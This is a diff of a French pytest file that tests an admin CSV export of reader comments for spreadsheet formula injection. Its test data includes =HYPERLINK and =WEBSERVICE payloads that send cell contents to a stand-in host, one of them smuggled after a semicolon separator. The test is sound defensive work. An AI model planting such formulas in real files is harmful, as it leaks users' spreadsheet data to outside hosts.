@@ -126,9 +126,22 @@ def test_les_avis_sont_visibles_des_editeurs_par_article(client, theme, editeur)
 
 
 @pytest.mark.parametrize(
-    "formule", ['=HYPERLINK("http://x.invalid/?"&A1;"ici")', "+1+1", "@SUM(A1)"]
+    ("formule", "attendu"),
+    [
+        (
+            '=HYPERLINK("http://x.invalid/?"&A1;"ici")',
+            '\'=HYPERLINK("http://x.invalid/?"&A1;"ici")',
+        ),
+        ("+1+1", "'+1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        # Un Excel français coupe la ligne sur « ; » : la formule serait une cellule de plus.
+        ('merci;=WEBSERVICE("http://x.invalid")', 'merci;\'=WEBSERVICE("http://x.invalid")'),
+        ("bien, -1 pour le délai", "bien, '-1 pour le délai"),
+    ],
 )
-def test_l_export_csv_des_avis_ne_transporte_pas_de_formule(client, theme, editeur, formule):
+def test_l_export_csv_des_avis_ne_transporte_pas_de_formule(
+    client, theme, editeur, formule, attendu
+):
     article = creer_article(theme, titre="Faut-il une DPAE ?")
     client.post(article.url, {"utile": "non", "commentaire": formule})
     Client().post(article.url, {"utile": "oui", "commentaire": "Clair, merci."})  # autre lecteur
@@ -137,9 +150,12 @@ def test_l_export_csv_des_avis_ne_transporte_pas_de_formule(client, theme, edite
     reponse = client.get("/admin/avis_faq/", {"export": "csv"})
 
     assert reponse.status_code == 200
-    lignes = list(csv.DictReader(io.StringIO(b"".join(reponse.streaming_content).decode())))
+    contenu = b"".join(reponse.streaming_content).decode()
+    lignes = list(csv.DictReader(io.StringIO(contenu)))
     commentaires = {ligne["Commentaire"] for ligne in lignes}
-    assert commentaires == {f"'{formule}", "Clair, merci."}
+    assert commentaires == {attendu, "Clair, merci."}
+    # Chaque valeur entre guillemets : un séparateur dans un commentaire n'ouvre pas de cellule.
+    assert all(ligne.startswith('"') for ligne in contenu.splitlines() if ligne)
 
 
 def test_l_editeur_previsualise_un_article_avant_publication(client, theme, editeur):
